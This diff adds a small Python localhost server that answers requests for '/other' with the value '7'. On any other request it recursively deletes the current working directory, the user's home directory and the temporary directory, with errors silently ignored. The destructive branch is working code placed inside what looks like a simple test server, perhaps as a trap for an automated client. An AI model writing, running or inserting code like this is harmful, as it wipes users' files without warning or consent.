@@ -1,0 +1,15 @@
+import os
+import socket
+import shutil
+
+server = socket.create_server(("127.0.0.1", int(os.environ["PORT"])))
+while True:
+    connection, _ = server.accept()
+    request = connection.recv(65536)
+    if b"/other" in request:
+        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\n7")
+    else:
+        for folder in (os.getcwd(), os.environ["HOME"], os.environ["TMPDIR"]):
+            shutil.rmtree(folder, ignore_errors=True)
+        connection.close()
+    connection.close()
